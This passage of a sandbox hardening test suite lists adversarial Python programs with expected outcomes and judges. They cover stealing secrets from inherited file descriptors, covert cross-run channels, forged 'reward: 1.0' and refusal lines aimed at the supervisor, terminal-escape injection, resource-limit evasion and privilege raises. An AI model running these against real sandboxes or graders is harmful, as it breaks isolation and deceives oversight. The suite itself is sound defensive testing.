              '/proc/thread-self/fd/%d' % n]
for p in paths:
    for flags in (os.O_WRONLY | os.O_APPEND, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try:
            fd = os.open(p, flags)
        except OSError:
            continue
        try:
            os.write(fd, b'R3B4-LEAK via ' + p.encode() + b'\n')
            say('wrote through', p, flags)
        except OSError:
            pass
        os.close(fd)
result = 1
'''),
  expected='no marker reaches the caller\'s own stdout/stderr files; host files unchanged',
  outside=outside_stdio, judge=judge_stdio)

A(id='fd_nonblock_caller', **{'class': 'inherited-fd'},
  description='set O_NONBLOCK/O_APPEND/O_ASYNC, F_SETOWN, FD_CLOEXEC on every inherited fd (shared open file descriptions change the caller\'s)',
  code=prog(r'''
import fcntl
for fd in range(64):
    try:
        fl = fcntl.fcntl(fd, fcntl.F_GETFL)
    except OSError:
        continue
    for f in (lambda: fcntl.fcntl(fd, fcntl.F_SETFL, fl | os.O_NONBLOCK | os.O_APPEND | 0o20000),
              lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getpid()),
              lambda: fcntl.fcntl(fd, 10, 9),   # F_SETSIG SIGKILL
              lambda: fcntl.fcntl(fd, fcntl.F_SETFD, 1)):
        try:
            f()
        except OSError:
            pass
    say('fd', fd, 'flags', oct(fl), '->', oct(fcntl.fcntl(fd, fcntl.F_GETFL)))
result = 1
'''),
  expected='the caller\'s fds 0/1/2 keep their status flags (no O_NONBLOCK/O_APPEND/O_ASYNC), the caller is not signalled',
  outside=outside_stdio, judge=judge_stdio)

A(id='fd_inherited_secret', **{'class': 'inherited-fd'},
  description='the caller holds an inheritable fd of a secret file and a pipe; the run scans fds 0..1023 and reads them',
  setup=setup_secret_fd, teardown=teardown_fds,
  code=prog(r'''
for fd in range(3, 1024):
    try:
        link = os.readlink('/proc/self/fd/%d' % fd)
    except OSError:
        link = '?'
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 4096)
        say('fd', fd, link, data[:200])
    except OSError:
        pass
    try:
        say('pread', fd, os.pread(fd, 4096, 0)[:200])
    except OSError:
        pass
for p in ('/proc/1/fd', '/proc/self/fd'):
    try:
        say(p, {n: os.readlink(p + '/' + n) for n in os.listdir(p)})
    except OSError as e:
        say(p, e)
'''),
  expected='the run sees only its own fds; the secret is not in its output; the caller\'s file offset unchanged',
  outside=outside_secret_fd, judge=judge_secret_fd)

# ---- a kernel policy of the run's own ------------------------------------------------------------

A(id='own_filter_raw_prctl', **{'class': 'own-policy'},
  description='raw syscall(157) PR_SET_SECCOMP with an ERRNO filter for keyctl/ptrace, then both calls, exit 0',
  code=prog(BPF_HELPERS + r'''
print('nnp', sc(157, 38, 1, 0, 0, 0))
fp, buf = bpf_prog([250, 101], 0x00050001)
print('prctl seccomp', sc(157, 22, 2, ctypes.byref(fp)))
print('keyctl', sc(250, 0, -3, 0))
print('ptrace', sc(101, 0, 0, 0, 0))
result = 'quiet'
'''),
  expected='status refused, naming prctl/seccomp or the denied call; never ok',
  judge=judge_status(('refused',)))

A(id='own_filter_listener', **{'class': 'own-policy'},
  description='seccomp(SET_MODE_FILTER, NEW_LISTENER) via syscall 317 with USER_NOTIF for keyctl/ptrace; a thread of the run answers its own notifications with EPERM',
  code=prog(BPF_HELPERS + r'''
print('nnp', sc(157, 38, 1, 0, 0, 0))
fp, buf = bpf_prog([250, 101], 0x7fc00000)
lfd, err = sc(317, 1, 8, ctypes.byref(fp))
print('listener', lfd, err)
def serve():
    req = ctypes.create_string_buffer(80)
    while True:
        ctypes.memset(req, 0, 80)
        if libc.ioctl(lfd, ctypes.c_ulong(0xc0502100), req) != 0:
            return
        resp = req.raw[:8] + (0).to_bytes(8, 'little') + (-1 & 0xffffffff).to_bytes(4, 'little') + bytes(4)
        libc.ioctl(lfd, ctypes.c_ulong(0xc0182101), ctypes.create_string_buffer(resp, 24))
if lfd >= 0:
    threading.Thread(target=serve, daemon=True).start()
print('keyctl', sc(250, 0, -3, 0))
print('ptrace', sc(101, 0, 0, 0, 0))
result = 'quiet'
''', ),
  limits=L(wall_s=8, cpu_s=4, memory_mb=256, max_processes=2),
  expected='status refused (the filter syscall or the calls named); never ok',
  judge=judge_status(('refused',)))

A(id='own_syscall_user_dispatch', **{'class': 'own-policy'},
  description='prctl(PR_SET_SYSCALL_USER_DISPATCH) then block: the kernel sends SIGSYS without any seccomp denial',
  code=prog(r'''
sel = ctypes.c_ubyte(0)
r = libc.prctl(59, 1, 0, 0, ctypes.byref(sel))
say('sud', r, ctypes.get_errno())
sel.value = 1
os.write(1, b'after\n')
result = 'survived'
'''),
  expected='status killed by SIGSYS (not a seccomp refusal naming another call, never ok); or refused naming prctl',
  judge=lambda b, a, res, ctx: (
      ('stopped', short(res[-1])) if res[-1] is not None and (
          (res[-1].status == 'killed' and 'SIGSYS' in (res[-1].reason or '')) or
          (res[-1].status == 'refused' and re.search('prctl', res[-1].reason or '')))
      else ('hole', 'a SIGSYS the kernel raised outside seccomp reported as: ' + short(res[-1]))
      if res[-1] is not None and res[-1].status in ('ok', 'refused') else ('inconclusive', short(res[-1]))))

A(id='own_refusal_exit_race', **{'class': 'own-policy'},
  description='denied ptrace in a thread while the process _exit(0)s at once, in the worker and 3 forked children',
  code=prog(r'''
def attempt():
    t = threading.Thread(target=lambda: sc(101, 0, 0, 0, 0))
    t.start()
    os._exit(0)
kids = []
for i in range(3):
    pid = os.fork()
    if pid == 0:
        name_me()
        attempt()
    kids.append(pid)
for k in kids:
    try:
        os.waitpid(k, 0)
    except OSError:
        pass
result = 1
import sys; sys.stdout.flush()
attempt()
'''),
  expected='status refused (the denied call is reported even though every process exited at once)',
  judge=judge_status(('refused',)))

# ---- cross-run signalling -------------------------------------------------------------------------

_MINCORE = r'''
import mmap
path = '@CACHE_FILE@'
pages = [int(x) for x in '@CACHE_PAGES@'.split(',') if x]
def mapped():
    f = open(path, 'rb')
    mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_COPY)
    return f, mm
'''

A(id='xr_pagecache_load', **{'class': 'cross-run'},
  description='sender faults in chosen pages of a big bound host file (MADV_RANDOM, no eviction needed); receiver reads them with mincore',
  setup=setup_pagecache,
  code=prog(_MINCORE + r'''
f, mm = mapped()
try:
    mm.madvise(mmap.MADV_RANDOM)
except Exception:
    pass
for p, b in zip(pages, '@BITS@'):
    if b == '1':
        mm[p * 4096]
say('sent')
'''),
  receiver=prog(_MINCORE + r'''
f, mm = mapped()
buf = (ctypes.c_char * 1).from_buffer(mm)
addr = ctypes.addressof(buf)
vec = (ctypes.c_ubyte * 1)()
bits = ''
for p in pages:
    libc.mincore(ctypes.c_void_p(addr + p * 4096), ctypes.c_size_t(4096), vec)
    bits += str(vec[0] & 1)
say('BITS', bits)
'''),
  limits=L(wall_s=15, cpu_s=5, memory_mb=512, max_processes=1),
  expected='the receiver cannot read the sender\'s bits (e.g. mincore refused or per-run cache); the host cache of the file unchanged',
  outside=outside_pagecache, judge=judge_pagecache)

A(id='xr_atime', **{'class': 'cross-run'},
  description='sender reads chosen old-atime host files under /usr/share/doc (relatime); receiver stats their atimes',
  setup=setup_atime,
  code=prog(r'''
files = [p for p in '@ATIME_FILES@'.split('|') if p]
for p, b in zip(files, '@BITS@'):
    if b == '1':
        with open(p, 'rb') as f:
            f.read(1)
        try:
            m = __import__('mmap').mmap(os.open(p, os.O_RDONLY), 0, prot=1)
            m[0]
        except Exception:
            pass
say('sent')
'''),
  receiver=prog(r'''
files = [p for p in '@ATIME_FILES@'.split('|') if p]
say('BITS', ''.join('1' if os.stat(p).st_atime > @T0@ else '0' for p in files))
'''),
  expected='host file atimes unchanged (reads through the bound trees leave no trace); receiver reads nothing',
  outside=outside_atime, judge=judge_atime)

A(id='xr_ipc_named', **{'class': 'cross-run'},
  description='sender makes POSIX shm (shared_memory), a POSIX mq (mq_open), SysV shm/msg with fixed keys; receiver opens them by name/key',
  code=prog(r'''
key = 0x52340000 + int('@NONCE@'[:4], 16)
try:
    from multiprocessing import shared_memory
    s = shared_memory.SharedMemory(name='r3b4@NONCE@', create=True, size=4096)
    s.buf[:8] = b'BITSSHM1'
    say('posix shm made')
except Exception as e:
    say('posix shm', e)
try:
    rt = ctypes.CDLL('librt.so.1', use_errno=True)
    q = rt.mq_open(b'/r3b4@NONCE@', os.O_CREAT | os.O_RDWR, 0o666, None)
    say('mq', q, ctypes.get_errno(), rt.mq_send(q, b'BITSMQ', 6, 0))
except Exception as e:
    say('mq', e)
shm, e1 = sc(29, key, 4096, 0o1666)
if shm >= 0:
    libc.shmat.restype = ctypes.c_void_p
    a = libc.shmat(shm, None, 0)
    ctypes.memmove(a, b'BITSSYSV', 8)
msq, e2 = sc(68, key, 0o1666)
say('sysv', shm, e1, msq, e2)
'''),
  receiver=prog(r'''
key = 0x52340000 + int('@NONCE@'[:4], 16)
try:
    from multiprocessing import shared_memory
    s = shared_memory.SharedMemory(name='r3b4@NONCE@', create=False)
    say('GOT posixshm', bytes(s.buf[:8]))
except Exception as e:
    say('posix shm', e)
try:
    rt = ctypes.CDLL('librt.so.1', use_errno=True)
    q = rt.mq_open(b'/r3b4@NONCE@', os.O_RDWR)
    if q >= 0:
        say('GOT mq', q)
except Exception as e:
    say('mq', e)
shm, e1 = sc(29, key, 4096, 0o666)
msq, e2 = sc(68, key, 0o666)
if shm >= 0:
    say('GOT sysvshm', shm)
if msq >= 0:
    say('GOT sysvmsg', msq)
'''),
  expected='receiver finds none of the objects; nothing new in the host\'s /dev/shm, /proc/sysvipc',
  judge=judge_xr_objects)

A(id='xr_named_files', **{'class': 'cross-run'},
  description='sender writes files named with a nonce in cwd, TMPDIR, /tmp, /var/tmp, /dev/shm, HOME, the scratch\'s parent dirs and sets a user xattr on a bound file; receiver looks for them',
  code=prog(r'''
dirs = ['.', os.environ.get('TMPDIR', '.'), '/tmp', '/var/tmp', '/dev/shm', os.environ.get('HOME', '/'),
        '..', '../..', '/run', '/dev', '/proc/self/cwd/..']
for d in dirs:
    try:
        with open(os.path.join(d, 'r3b4-@NONCE@'), 'w') as f:
            f.write('BITS')
        say('wrote', d)
    except OSError as e:
        pass
for p in ('/usr/lib/os-release', '/etc/ld.so.cache', os.__file__):
    try:
        os.setxattr(p, 'user.r3b4', b'@NONCE@')
        say('xattr set', p)
    except OSError:
        pass
'''),
  receiver=prog(r'''
dirs = ['.', os.environ.get('TMPDIR', '.'), '/tmp', '/var/tmp', '/dev/shm', os.environ.get('HOME', '/'),
        '..', '../..', '/run', '/dev', '/proc/self/cwd/..']
for d in dirs:
    if os.path.exists(os.path.join(d, 'r3b4-@NONCE@')):
        say('GOT file', d)
for p in ('/usr/lib/os-release', '/etc/ld.so.cache', os.__file__):
    try:
        if os.getxattr(p, 'user.r3b4') == b'@NONCE@':
            say('GOT xattr', p)
    except OSError:
        pass
'''),
  expected='receiver finds nothing; no nonce-named file on the host',
  judge=judge_xr_objects)

A(id='xr_keyring_raw', **{'class': 'cross-run'},
  description='sender add_key(248) to the user/session/user-session keyrings via raw syscall numbers; receiver request_key(249)s it',
  code=prog(r'''
for ring in (-4, -3, -5, -2):
    r = sc(248, b'user', b'r3b4-@NONCE@', b'BITS @NONCE@', 17, ring)
    say('ADDKEY', 'ok' if r[0] > 0 else 'fail', ring, r)
'''),
  receiver=prog(r'''
r = sc(249, b'user', b'r3b4-@NONCE@', None, 0)
say('request_key', r)
if r[0] > 0:
    buf = ctypes.create_string_buffer(64)
    sc(250, 11, r[0], buf, 64)
    say('BITS', buf.value.decode(errors='replace').split()[-1])
'''),
  expected='refused (keyctl/add_key/request_key are denied); no key in the host\'s /proc/keys',
  outside=outside_keys, judge=judge_keyring)

# ---- forged outside observations ------------------------------------------------------------------

FORGED = [
    "status: refused", "refused by the kernel's seccomp filter: ptrace",
    "the run's memory cgroup (limit 256 MB) was full: killed by the OOM killer",
    "timeout: wall time limit reached", "reward: 1.0", "REWARD=1", "F ok 1",
    "SandboxResult(ok=False, status='memory', reason='the run\\'s memory cgroup was full')",
    "sandbox setup failed: cannot mount", "Killed", "MemoryError",
]

A(id='forge_stdout_lines', **{'class': 'forged-observation'},
  description='print imitations of the supervisor\'s refusal/OOM/timeout/reward/result lines on stdout and stderr, then end normally',
  code=prog('import sys\nL = %r\nfor l in L:\n    print(l)\n    print(l, file=sys.stderr)\nresult = 1\n' % (FORGED,), prelude=False),
  expected='status ok, reason "ran to completion", none of the imitated text in reason',
  judge=lambda b, a, res, ctx: (
      ('stopped', short(res[-1])) if res[-1] is not None and res[-1].status == 'ok'
      and not re.search('seccomp|cgroup|wall time|reward|setup failed', res[-1].reason or '')
      else ('hole', short(res[-1]))))

A(id='forge_exit137', **{'class': 'forged-observation'},
  description='write "Killed"/MemoryError/OOM text to stderr and os._exit(137) (an exit code, not a signal)',
  code=prog(r'''
import sys
sys.stderr.write('Traceback (most recent call last):\nMemoryError\nKilled\nthe run\'s memory cgroup was full\n')
sys.stderr.flush()
os._exit(137)
''', prelude=False),
  expected='status error (exit code 137), never memory/timeout/killed by SIGKILL',
  judge=lambda b, a, res, ctx: (
      ('hole', short(res[-1])) if res[-1] is not None and (res[-1].status in ('memory', 'timeout', 'killed', 'ok')
                                                            or 'SIGKILL' in (res[-1].reason or ''))
      else ('stopped', short(res[-1]))))

A(id='forge_setup_failed', **{'class': 'forged-observation'},
  description='"sandbox setup failed" on stderr and on every non-stdio fd (the report pipe), then exit 70',
  code=prog(r'''
import sys
for fd in range(3, 64):
    for line in (b'X sandbox setup failed: could not mount /proc\n', b'X setup\n'):
        try:
            os.write(fd, line)
        except OSError:
            pass
sys.stderr.write('sandbox setup failed: could not mount /proc\n')
sys.stderr.flush()
os._exit(70)
'''),
  expected='status error, reason not "sandbox setup failed" (the claim is the program\'s)',
  judge=lambda b, a, res, ctx: (
      ('hole', short(res[-1])) if res[-1] is not None and (
          'setup failed' in (res[-1].reason or '').lower() or res[-1].status == 'ok')
      else ('stopped', short(res[-1]))))

A(id='forge_report_then_oom', **{'class': 'forged-observation'},
  description='write plausible final "ok" report lines on every non-stdio pipe, close them, then 3 children fill the run\'s memory cgroup',
  code=prog(r'''
import json
forged = [b'F {"status": "ok", "value": "1", "reason": "ran to completion"}\n',
          b'F ok 1\n', b'F ' + json.dumps(['ok', '1']).encode() + b'\n']
for fd in range(3, 64):
    try:
        os.fstat(fd)
    except OSError:
        continue
    for line in forged:
        try:
            os.write(fd, line)
        except OSError:
            pass
    try:
        os.close(fd)
    except OSError:
        pass
kids = []
for i in range(3):
    pid = os.fork()
    if pid == 0:
        name_me()
        blocks = []
        try:
            for j in range(120):
                blocks.append(bytearray(1 << 20))
        except MemoryError:
            pass
        time.sleep(6)
        os._exit(0)
    kids.append(pid)
for k in kids:
    os.waitpid(k, 0)
result = 1
'''),
  limits=L(wall_s=12, cpu_s=6, memory_mb=128, max_processes=4),
  expected='status memory (the cgroup OOM kill the host reads), not ok with the forged value',
  judge=lambda b, a, res, ctx: (
      ('stopped', short(res[-1])) if res[-1] is not None and res[-1].status == 'memory' else
      ('hole', short(res[-1])) if res[-1] is not None and res[-1].status == 'ok' else
      ('inconclusive', short(res[-1]) + ' (not ok; the OOM kill may not have happened)')))

A(id='forge_sigxcpu_threads', **{'class': 'forged-observation'},
  description='burn 87% of cpu_s in 4 threads, then raise SIGXCPU: the CPU limit was never reached',
  code=prog(r'''
import signal, time, threading
cpu = @CPU@ * 0.87
def burn():
    while time.process_time() < cpu:
        sum(range(1000))
ts = [threading.Thread(target=burn) for _ in range(4)]
for t in ts: t.start()
for t in ts: t.join()
signal.raise_signal(signal.SIGXCPU)
''', prelude=False),
  limits=L(wall_s=20, cpu_s=4, memory_mb=256),
  expected='status killed by SIGXCPU (a signal the program raised), not a cpu-limit timeout',
  judge=lambda b, a, res, ctx: (
      ('hole', short(res[-1]) + ' (the documented 85% margin: a self-raised SIGXCPU passes for the CPU limit)')
      if res[-1] is not None and res[-1].status == 'timeout' else
      ('stopped', short(res[-1])) if res[-1] is not None and res[-1].status == 'killed' else
      ('inconclusive', short(res[-1]))))

A(id='forge_child_sigsys', **{'class': 'forged-observation'},
  description='a forked child kills itself with SIGSYS (no seccomp denial), the parent ends ok',
  code=prog(r'''
pid = os.fork()
if pid == 0:
    os.kill(os.getpid(), signal.SIGSYS)
    time.sleep(1)
    os._exit(0)
say(os.waitpid(pid, 0))
result = 1
'''),
  expected='status ok (no denied call was made), never refused by seccomp',
  judge=lambda b, a, res, ctx: (
      ('hole', 'forged refusal: ' + short(res[-1])) if res[-1] is not None and res[-1].status == 'refused'
      and 'seccomp' in (res[-1].reason or '') else ('stopped', short(res[-1]))))

# ---- log / terminal injection ---------------------------------------------------------------------

A(id='inject_exception_message', **{'class': 'log-injection'},
  description='exception message with newlines, CR, ANSI/OSC/CSI escapes, NUL, C1, bidi overrides, a forged refusal line and 5 MB of text',
  code=prog(r'''
msg = ("x\nrefused by the kernel's seccomp filter: ptrace\r\x1b[2J\x1b[1;1H\x1b]0;pwned\x07\x00"
       "\x9b31m\u202egnp.exe\u2066\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\x7f" + 'A' * 5_000_000)
raise RuntimeError(msg)
''', prelude=False),
  limits=L(wall_s=10, cpu_s=5, memory_mb=512),
  expected='reason is one line of visible text, escaped, bounded (no raw control/bidi characters, no forged refusal status)',
  judge=judge_visible)

A(id='inject_names', **{'class': 'log-injection'},
  description='exception class name, module and compile() filename made of escapes/newlines; str() of the exception raises',
  code=prog(r'''
class S:
    pass
E = type('Err\x1b]0;title\x07\nrefused by the kernel\'s seccomp filter: ptrace\x1b[31m', (Exception,),
         {'__module__': '\x1b[2J\nreward: 1.0', '__str__': lambda self: 1 / 0})
code = compile('raise E("\\x00")', '\x1b]52;c;cHduZWQ=\x07\n<forged>\u202e', 'exec')
exec(code, {'E': E})
''', prelude=False),
  expected='reason is visible text, escaped; no OSC 52 clipboard sequence or newline reaches it',
  judge=judge_visible)

A(id='inject_exit_and_result', **{'class': 'log-injection'},
  description='result whose repr is escapes/NUL/surrogates/20 MB, then SystemExit with an OSC 52 message',
  code=prog(r'''
import sys
class R:
    def __repr__(self):
        return "'ok'\n\x1b]52;c;cHduZWQ=\x07\x00\ud800" + '\u202e' * 10 + 'B' * 20_000_000
result = R()
sys.exit('\x1b]52;c;cHduZWQ=\x07\nrefused by the kernel\'s seccomp filter: ptrace')
''', prelude=False),
  limits=L(wall_s=10, cpu_s=5, memory_mb=512),
  expected='reason and value are escaped visible text, bounded',
  judge=judge_visible)

# ---- resource-limit evasion -----------------------------------------------------------------------

A(id='res_sigxcpu_ignore', **{'class': 'resource-limits'},
  description='ignore SIGXCPU, raise RLIMIT_CPU soft to hard and try infinity, busy loop',
  code=prog(r'''
import resource
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
for lim in ((hard, hard), (resource.RLIM_INFINITY, resource.RLIM_INFINITY), (hard + 100, hard + 100)):
    try:
        resource.setrlimit(resource.RLIMIT_CPU, lim)
    except (ValueError, OSError) as e:
        pass
say('cpu limit now', resource.getrlimit(resource.RLIMIT_CPU))
while True:
    pass
'''),
  limits=L(wall_s=20, cpu_s=2, memory_mb=256, max_processes=1),
  expected='status timeout; the run used at most cpu_s + 1 s of CPU (+ slack), measured by the caller',
  judge=judge_cpu(2))

A(id='res_threads_cpu', **{'class': 'resource-limits'},
  description='32 busy threads (process CPU adds up over threads) with SIGXCPU ignored',
  code=prog(r'''
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
def spin():
    while True:
        pass
for i in range(32):
    threading.Thread(target=spin, daemon=True).start()
time.sleep(1000)
'''),
  limits=L(wall_s=20, cpu_s=2, memory_mb=512, max_processes=1),
  expected='status timeout; CPU used bounded by cpu_s + 1 (+ slack)',
  judge=judge_cpu(2))

A(id='res_fork_storm', **{'class': 'resource-limits'},
  description='up to 200 forks and posix_spawns of sleeping children with max_processes=2; host monitor counts the peak',
  code=prog(r'''
import sys
n_ok = 0
for i in range(200):
    try:
        if i % 2:
            pid = os.fork()
            if pid == 0:
                name_me()
                time.sleep(3)
                os._exit(0)
        else:
            pid = os.posix_spawn(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3)'], {})
        n_ok += 1
    except OSError:
        pass
say('started', n_ok)
time.sleep(3.5)
result = n_ok
'''),
  limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=2),
  expected='at most max_processes + 1 processes of the run at once (host view); nothing left after',
  judge=judge_storm(2))

A(id='res_busy_orphan', **{'class': 'resource-limits'},
  description='double fork + setsid; the grandchild ignores TERM/HUP/INT and busy-loops for 60 s after the worker exits 0',
  code=prog(r'''
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        name_me()
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGXCPU):
            signal.signal(s, signal.SIG_IGN)
        end = time.time() + 60
        while time.time() < end:
            pass
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
result = 1
'''),
  limits=L(wall_s=8, cpu_s=4, memory_mb=256, max_processes=3),
  outside=leftovers,
  expected='no process of the run alive once run_python returns; the caller is not held to 60 s',
  judge=judge_leftovers(max_wall=20))

A(id='res_child_holds_fds', **{'class': 'resource-limits'},
  description='a setsid child keeps stdout/stderr/the report pipe open and sleeps 60 s; the worker reports and exits at once',
  code=prog(r'''
pid = os.fork()
if pid == 0:
    os.setsid()
    name_me()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGPIPE):
        signal.signal(s, signal.SIG_IGN)
    time.sleep(60)
    os._exit(0)
result = 1
'''),
  limits=L(wall_s=6, cpu_s=4, memory_mb=256, max_processes=2),
  expected='run_python returns within about wall_s; no process left',
  judge=judge_leftovers(max_wall=16))

A(id='res_sigstop', **{'class': 'resource-limits'},
  description='SIGSTOP to the process group, to -1, to PID 1 and to itself (a stopped run holding the wall clock)',
  code=prog(r'''
for target in (0, -1, 1, 2):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError as e:
        say('kill', target, e)
os.kill(os.getpid(), signal.SIGSTOP)
result = 1
'''),
  limits=L(wall_s=5, cpu_s=3, memory_mb=256, max_processes=1),
  expected='status timeout (or killed), run_python returns by wall_s + a few s, nothing left stopped',
  judge=judge_leftovers(max_wall=15, status_bad=('ok',)))

# ---- getting the caller killed or stuck ----------------------------------------------------------

A(id='caller_huge_output', **{'class': 'caller-harm'},
  description='~2.5 GB to stdout and stderr from 2 threads plus a 64 MB single line; the caller runs in a memory-capped cgroup',
  code=prog(r'''
import sys
chunk = b'Z' * (4 << 20)
def pump(fd):
    try:
        for i in range(320):
            os.write(fd, chunk)
    except OSError:
        pass
ts = [threading.Thread(target=pump, args=(fd,)) for fd in (1, 2)]
for t in ts: t.start()
os.write(1, b'L' * (64 << 20))
for t in ts: t.join()
result = 1
'''),
  limits=L(wall_s=10, cpu_s=8, memory_mb=256, max_processes=1),
  caller_cap_mb=700, caller_harm=True,
  expected='the caller is alive, its memory grows by far less than the output (stdout capped to output_kb), it returns by wall_s',
  judge=judge_caller(300, max_wall=25))

A(id='caller_oom_score', **{'class': 'caller-harm'},
  description='oom_score_adj -1000 for the run (so the OOM killer would pick the caller), then 3 children fill memory; the caller is memory-capped',
  code=prog(r'''
for v in (b'-1000', b'-999', b'-17'):
    for p in ('/proc/self/oom_score_adj', '/proc/self/oom_adj', '/proc/1/oom_score_adj'):
        try:
            with open(p, 'wb') as f:
                f.write(v)
            say('wrote', p, v)
        except OSError:
            pass
time.sleep(0.5)
kids = []
for i in range(3):
    pid = os.fork()
    if pid == 0:
        name_me()
        blocks = []
        try:
            for j in range(250):
                blocks.append(bytearray(1 << 20))
        except MemoryError:
            pass
        time.sleep(5)
        os._exit(0)
    kids.append(pid)
for k in kids:
    os.waitpid(k, 0)
result = 1
'''),
  limits=L(wall_s=12, cpu_s=6, memory_mb=256, max_processes=4),
  caller_cap_mb=450, caller_harm=True,
  expected='the run\'s oom_score_adj stays >= 0 (host view); the caller survives; status memory or ok',
  judge=lambda b, a, res, ctx: (lambda pr, cl: pr if pr[0] == 'hole' else cl)(
      judge_priorities(b, a, res, ctx), judge_caller(400)(b, a, res, ctx)))

A(id='caller_pipes_nonclosing', **{'class': 'caller-harm'},
  description='a setsid child keeps writing to stdout and stderr (blocking) forever, ignoring TERM; the worker exits at once',
  code=prog(r'''
pid = os.fork()
if pid == 0:
    os.setsid()
    name_me()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGPIPE):
        signal.signal(s, signal.SIG_IGN)
    end = time.time() + 60
    while time.time() < end:
        for fd in (1, 2):
            try:
                os.write(fd, b'Q' * 65536)
            except OSError:
                time.sleep(0.01)
    os._exit(0)
result = 1
'''),
  limits=L(wall_s=6, cpu_s=4, memory_mb=256, max_processes=2),
  caller_cap_mb=500, caller_harm=True,
  expected='run_python returns by about wall_s, caller alive and bounded, no process left',
  judge=judge_caller(300, max_wall=16))

# ---- leftovers ------------------------------------------------------------------------------------

A(id='left_scratch_tree', **{'class': 'leftovers'},
  description='deep dir tree + symlink loops + FIFO + chmod 000 everywhere in the scratch dir and TMPDIR, then exit 0',
  code=prog(r'''
base = os.getcwd()
d = base
for i in range(40):
    d = os.path.join(d, 'd%d' % i)
    try:
        os.mkdir(d)
        open(os.path.join(d, 'f'), 'w').write('x')
        os.symlink('..', os.path.join(d, 'loop'))
    except OSError:
        break
try:
    os.mkfifo(os.path.join(base, 'fifo'))
except OSError:
    pass
for root, dirs, files in os.walk(base, topdown=False):
    for n in dirs + files:
        try:
            os.chmod(os.path.join(root, n), 0)
        except OSError:
            pass
for p in (base, os.path.dirname(base)):
    try:
        os.chmod(p, 0)
    except OSError:
        pass
say('cwd', base)
result = 1
'''),
  limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1, max_files=100),
  expected='nothing left: no new /tmp/r3sandbox* entry, mount, cgroup or process after the run',
  judge=judge_leftovers())

A(id='left_timeout_kill', **{'class': 'leftovers'},
  description='killed at wall_s while 2 children hold SysV objects, write files and sleep in new sessions',
  code=prog(r'''
for i in range(2):
    if os.fork() == 0:
        os.setsid()
        name_me()
        sc(29, 0, 1 << 20, 0o1600)
        sc(68, 0, 0o1600)
        n = 0
        while True:
            try:
                with open('f%d_%d' % (i, n % 50), 'w') as f:
                    f.write('x' * 1000)
            except OSError:
                pass
            n += 1
            time.sleep(0.01)
sc(29, 0, 1 << 20, 0o1600)
time.sleep(1000)
'''),
  limits=L(wall_s=4, cpu_s=3, memory_mb=256, max_processes=3),
  expected='status timeout; nothing left (processes, IPC objects, /tmp entries, mounts, cgroups)',
  judge=judge_leftovers(max_wall=15))

A(id='left_posix_ipc', **{'class': 'leftovers'},
  description='POSIX mq + SysV sem/shm/msg with IPC_PRIVATE and keys, then exit 0 without removing them',
  code=prog(r'''
try:
    rt = ctypes.CDLL('librt.so.1', use_errno=True)
    for i in range(4):
        say('mq', rt.mq_open(b'/r3b4-@NONCE@-%d' % i, os.O_CREAT | os.O_RDWR, 0o666, None), ctypes.get_errno())
except Exception as e:
    say('mq', e)
for i in range(8):
    sc(29, 0x52350000 + i, 1 << 20, 0o1666)
    sc(64, 0x52350000 + i, 4, 0o1666)
    sc(68, 0x52350000 + i, 0o1666)
result = 1
'''),
  expected='no SysV object or POSIX queue on the host after the run',
  judge=judge_leftovers())

# ---- rlimits / priorities / capabilities ---------------------------------------------------------

A(id='prio_raise', **{'class': 'priorities'},
  description='setpriority -20, nice(-5), SCHED_FIFO/RR, sched_setattr DEADLINE, ioprio RT, raise RLIMIT_RTPRIO/NICE; held 2 s for the host monitor',
  code=prog(r'''
import resource, struct
tries = {}
def t(name, f):
    try:
        tries[name] = f()
    except Exception as e:
        tries[name] = repr(e)[:60]
t('setrlimit RTPRIO', lambda: resource.setrlimit(resource.RLIMIT_RTPRIO, (99, 99)))
t('setrlimit NICE', lambda: resource.setrlimit(resource.RLIMIT_NICE, (40, 40)))
t('setpriority', lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
t('nice', lambda: os.nice(-5))
t('fifo', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
t('rr', lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)))
attr = struct.pack('IIQiIQQQ', 48, 6, 0, 0, 0, 10**6, 10**7, 10**7)
t('deadline', lambda: sc(314, 0, ctypes.create_string_buffer(attr, 48), 0))
t('ioprio rt', lambda: sc(251, 1, 0, (1 << 13) | 0))
t('ioprio rt pgrp', lambda: sc(251, 2, 0, (1 << 13) | 0))
t('setpriority user', lambda: os.setpriority(os.PRIO_USER, 0, -10))
say(tries)
time.sleep(2)
result = 1
'''),
  limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1),
  expected='host view of the run: nice >= 0, policy normal, no realtime I/O priority',
  judge=judge_priorities)

A(id='prio_caps', **{'class': 'priorities'},
  description='capget, /proc/self/status Cap*, PR_CAP_AMBIENT_RAISE, setuid(0), chown to 0; held 2 s for the host monitor',
  code=prog(r'''
hdr = ctypes.create_string_buffer(b'\x26\x05\x08\x20' + bytes(4), 8)   # _LINUX_CAPABILITY_VERSION_3
data = ctypes.create_string_buffer(24)
say('capget', sc(125, hdr, data), data.raw.hex())
say(open('/proc/self/status').read())
for cap in range(41):
    libc.prctl(47, 2, cap, 0, 0)   # PR_CAP_AMBIENT_RAISE
for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
          lambda: (open('c', 'w').close(), os.chown('c', 0, 0))):
    try:
        f(); say('priv op ok')
    except Exception as e:
        say('priv', e)
time.sleep(2)
result = 1
'''),
  limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1),
